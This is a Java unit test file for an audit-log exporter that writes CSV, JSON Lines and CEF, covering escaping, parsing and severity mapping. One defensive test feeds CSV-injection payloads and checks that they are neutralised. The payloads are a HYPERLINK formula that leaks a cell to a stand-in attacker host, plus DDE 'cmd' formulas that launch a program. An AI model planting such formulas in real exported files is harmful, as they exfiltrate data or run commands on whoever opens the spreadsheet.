package dev.portcullis.policy.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExportFormatTest {

    static final ExportRow TRICKY = new ExportRow(7, Instant.parse("2026-11-24T10:00:00.123Z"),
            Instant.parse("2026-11-24T10:00:01Z"), "service:vpn", "LOGIN|ERROR", "山田 太郎, \"the\" boss",
            "failure", "192.0.2.1", "{\"note\":\"line one\\nline=two \\\\ end\",\"名前\":\"山田\"}",
            "ab".repeat(32), "0".repeat(64));

    static String render(ExportFormat format, ExportRow... rows) throws Exception {
        StringWriter out = new StringWriter();
        format.header(out);
        for (ExportRow row : rows) {
            format.write(row, out);
        }
        return out.toString();
    }

    @Test
    void csvRoundTripsThroughAStandardParser() throws Exception {
        ExportRow multiline = new ExportRow(8, TRICKY.time(), TRICKY.recordedAt(), "admin", "note", "a\r\nb",
                "success", null, "{}", TRICKY.hash(), TRICKY.hash());
        String csv = render(ExportFormat.CSV, TRICKY, multiline);
        assertThat(csv).startsWith("id,time,recordedAt,actor,type,subject,outcome,ip,details,hash,prevHash\r\n");
        MappingIterator<Map<String, String>> rows = new CsvMapper().readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv);
        List<Map<String, String>> parsed = rows.readAll();
        assertThat(parsed).hasSize(2);
        assertThat(parsed.get(0)).containsEntry("id", "7")
                .containsEntry("time", "2026-11-24T10:00:00.123Z")
                .containsEntry("subject", TRICKY.subject())
                .containsEntry("type", TRICKY.type())
                .containsEntry("details", TRICKY.details());
        assertThat(parsed.get(1)).containsEntry("subject", "a\r\nb").containsEntry("ip", "");
    }

    /** OWASP CSV injection: what a spreadsheet would run opens as text; jsonl and cef stay exact. */
    @ParameterizedTest
    @ValueSource(strings = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\tTAB",
        "\rCR"})
    void csvCellsThatASpreadsheetWouldRunAreDefused(String hostile) throws Exception {
        ExportRow row = new ExportRow(9, TRICKY.time(), TRICKY.recordedAt(), "service:vpn", hostile, hostile,
                "failure", null, "{}", TRICKY.hash(), TRICKY.hash());
        String csv = render(ExportFormat.CSV, row);
        Map<String, String> parsed = new CsvMapper().readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).<Map<String, String>>readValues(csv).next();
        assertThat(parsed).containsEntry("subject", "'" + hostile).containsEntry("type", "'" + hostile)
                .containsEntry("details", "{}").containsEntry("outcome", "failure");
        assertThat(new ObjectMapper().readTree(render(ExportFormat.JSONL, row)).get("subject").asText())
                .isEqualTo(hostile);
        assertThat(render(ExportFormat.CEF, row)).contains("duser=" + Cef.value(hostile));
    }

    @Test
    void jsonLinesCarryOneEventPerLineWithDetailsAsAnObject() throws Exception {
        String jsonl = render(ExportFormat.JSONL, TRICKY, TRICKY);
        List<String> lines = jsonl.lines().toList();
        assertThat(lines).hasSize(2);
        JsonNode event = new ObjectMapper().readTree(lines.get(0));
        assertThat(event.get("id").asLong()).isEqualTo(7);
        assertThat(event.get("subject").asText()).isEqualTo(TRICKY.subject());
        assertThat(event.get("details").get("名前").asText()).isEqualTo("山田");
        assertThat(event.get("details").get("note").asText()).isEqualTo("line one\nline=two \\ end");
    }

    @Test
    void cefEscapesHeaderAndExtensionValues() throws Exception {
        String cef = render(ExportFormat.CEF, TRICKY);
        assertThat(cef.lines()).hasSize(1);
        assertThat(cef).startsWith("CEF:0|Portcullis|policy-service|1|LOGIN\\|ERROR|LOGIN\\|ERROR failure|6|");
        // changed on purpose: rt (CEF's receipt time) is when Portcullis recorded the event, no longer the
        // time the sender gave, which is start now
        assertThat(cef).contains("|6|rt=" + TRICKY.recordedAt().toEpochMilli() + " start=" + TRICKY.time().toEpochMilli()
                + " externalId=7 ")
                .contains("suser=service:vpn")
                .contains("duser=山田 太郎, \"the\" boss")
                .contains("cs1={\"note\":\"line one\\\\nline\\=two \\\\\\\\ end\"")
                .contains("cs1Label=details")
                .doesNotContain("\r");
    }

    @ParameterizedTest
    @CsvSource({
        "a|b, a\\|b",
        "back\\slash, back\\\\slash",
        "'two\nlines', two lines"
    })
    void cefHeaderEscaping(String raw, String escaped) {
        assertThat(Cef.header(raw)).isEqualTo(escaped);
    }

    @ParameterizedTest
    @CsvSource({
        "a=b, a\\=b",
        "back\\slash, back\\\\slash",
        "'one\ntwo', one\\ntwo",
        "'one\r\ntwo', one\\ntwo",
        "pipe|stays, pipe|stays"
    })
    void cefExtensionEscaping(String raw, String escaped) {
        assertThat(Cef.value(raw)).isEqualTo(escaped);
    }

    @ParameterizedTest
    @CsvSource({
        "mfa.locked, success, 8",
        "mfa.totp.verified, failure, 6",
        "LOGIN_ERROR, failure, 6",
        "service.created, success, 5",
        "policy.updated, success, 5",
        "mfa.totp.reset, success, 5",
        "mfa.totp.verified, success, 3",
        "mfa.unlocked, success, 5",
        "LOGIN, success, 3"
    })
    void severityFollowsTypeAndOutcome(String type, String outcome, int severity) {
        assertThat(Cef.severity(type, outcome)).isEqualTo(severity);
    }
}
